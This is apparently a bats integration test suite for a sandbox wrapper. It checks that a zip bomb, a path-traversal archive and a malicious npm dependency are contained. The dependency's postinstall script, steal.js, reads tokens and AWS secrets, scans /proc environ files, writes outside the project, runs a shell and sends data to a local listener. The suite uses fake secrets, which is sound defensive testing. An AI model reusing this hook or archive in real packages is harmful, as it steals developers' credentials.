#!/usr/bin/env bats
# SPDX-License-Identifier: MIT
# Whole jobs that somebody would put sbx-wrap in front of: an archive, a package with a bad dependency.

load ../cli/helper

free_kilobytes() {
	df --output=avail -k "$1" | tail -1
}

@test "a zip bomb dies at the size of /tmp, and the host loses nothing" {
	"$PYTHON" "$TESTS/tools/mkbomb.py" bomb.zip
	run unzip -l bomb.zip
	[ "$(awk 'END { print $1 }' <<<"$output")" -ge 10000000000 ]
	local before after
	before=$(free_kilobytes .)
	run "$SBX" sh -c 'unzip -q "$1" -d /tmp/sbx-new' sh bomb.zip # named by unzip itself it would be an output
	[ "$status" -ne 0 ]
	expect_line 'disk full|[Nn]o space|write error'
	after=$(free_kilobytes .)
	# others write to the host's disk at the same time; 11 GB would show
	[ $((before - after)) -lt 1048576 ] || fail "the host lost $((before - after)) kB"
	[ ! -e /tmp/sbx-new ]
}

@test "a file larger than /tmp is cut at its size; a smaller one is not" {
	run "$SBX" --set limits.tmp=256M sh -c 'head -c 300M /dev/zero >/tmp/big'
	[ "$status" -ne 0 ]
	expect_line 'No space left'
	run "$SBX" sh -c 'head -c 100M /dev/zero >/tmp/big && stat -c %s /tmp/big'
	expect_output 104857600
}

@test "more files than /tmp has inodes fail" {
	run "$SBX" -p default "$PYTHON" -c '
for n in range(70000):
    open("/tmp/%d" % n, "w").close()'
	[ "$status" -ne 0 ]
	expect_line 'No space left'
}

@test "unzip of an honest archive puts everything in place" {
	mkdir -p tree/sub out
	echo one >tree/one
	echo two >tree/sub/two
	chmod 640 tree/one
	(cd tree && zip -qr ../tree.zip .)
	run "$SBX" unzip -q tree.zip -d out
	expect_status 0
	diff -r tree out
	run "$SBX" unzip -q tree.zip -d fresh
	expect_status 0
	diff -r tree fresh
}

@test "an archive whose names climb out of the directory writes nothing outside" {
	mkdir -p out
	"$PYTHON" - <<'END'
import zipfile
with zipfile.ZipFile("evil.zip", "w") as evil:
    evil.writestr("../escaped", "x")
    evil.writestr("inside", "x")
END
	run "$SBX" unzip -:qo evil.zip -d out
	[ ! -e escaped ]
}

# The package's postinstall writes what it got to findings.txt in the project, the one place where it may write.
make_package() {
	mkdir -p evil
	cat >evil/package.json <<'END'
{ "name": "evil", "version": "1.0.0", "scripts": { "postinstall": "node steal.js" } }
END
	cat >evil/steal.js <<'END'
const fs = require('fs'), net = require('net'), path = require('path'), { execFileSync } = require('child_process');
const project = process.env.INIT_CWD;
const found = [];
const attempt = (name, action) => {
  try { found.push(name + ' OK ' + action()); } catch (error) { found.push(name + ' ' + (error.code || error.status)); }
};
const done = () => fs.writeFileSync(path.join(project, 'findings.txt'), found.join('\n') + '\n');
attempt('canary', () => fs.readFileSync(process.env.CANARY, 'utf8').trim());
attempt('home', () => { const names = fs.readdirSync(process.env.REAL_HOME); if (!names.some(n => n.startsWith('.sbx-canary'))) throw { code: 'EMPTY' }; return names; });
attempt('token', () => { const token = process.env.NPM_TOKEN || process.env.GITHUB_TOKEN || process.env.AWS_SECRET_ACCESS_KEY; if (!token) throw { code: 'UNSET' }; return token; });
attempt('parent_environ', () => { const all = fs.readdirSync('/proc').filter(n => /^\d+$/.test(n)).map(n => { try { return fs.readFileSync('/proc/' + n + '/environ', 'latin1'); } catch { return ''; } }).join(''); if (!all.includes('t0psecret')) throw { code: 'UNSET' }; return 'seen'; });
attempt('outside', () => fs.writeFileSync(path.join(project, '..', 'outside.txt'), 'x'));
attempt('shell', () => execFileSync('sh', ['-c', 'echo ran'], { encoding: 'utf8' }).trim());
const socket = net.connect(Number(process.env.HOST_PORT), '127.0.0.1');
socket.on('connect', () => { found.push('connect OK'); socket.end('stolen'); done(); });
socket.on('error', error => { found.push('connect ' + error.code); done(); });
END
	mkdir project
	mv evil project/
	echo '{ "name": "project", "version": "1.0.0" }' >project/package.json
}

install_package() { # WRAPPER...
	make_package
	home_canary
	"$PYTHON" "$TESTS/tools/listeners.py" "$PWD/listen" <hold 3>&- >/dev/null 2>&1 &
	exec {HOLD}>hold
	wait_until test -e listen/ports
	HOST_PORT=$(head -1 listen/ports)
	export HOST_PORT NPM_TOKEN=t0psecret GITHUB_TOKEN=t0psecret AWS_SECRET_ACCESS_KEY=t0psecret
	cd project
	# the project's own configuration could allow scripts or not: ask for them by name
	run "$@" npm install ./evil --offline --no-audit --no-fund --no-update-notifier --foreground-scripts
	cd ..
	exec {HOLD}>&-
}

more_setup() {
	mkdir -p listen
	mkfifo hold
}

@test "a compromised dependency gets nothing" {
	needs_npm
	install_package "$SBX"
	expect_status 0
	[ -e project/findings.txt ] || fail "the script did not run"
	output=$(cat project/findings.txt)
	local name
	for name in canary home token parent_environ connect; do
		expect_line "^$name E|^$name UNSET" || return 1
		expect_no_line "^$name OK" || return 1
	done
	expect_line '^shell OK ran$'
	[ ! -s listen/log ]
	[ ! -e outside.txt ]
	[ -e project/node_modules/evil ]
}

@test "a compromised dependency: unwrapped it gets everything" {
	needs_npm
	install_package env npm_config_cache="$PWD/npm-cache"
	expect_status 0
	output=$(cat project/findings.txt)
	local name
	for name in canary home token parent_environ outside connect shell; do
		expect_line "^$name OK" || return 1
	done
}
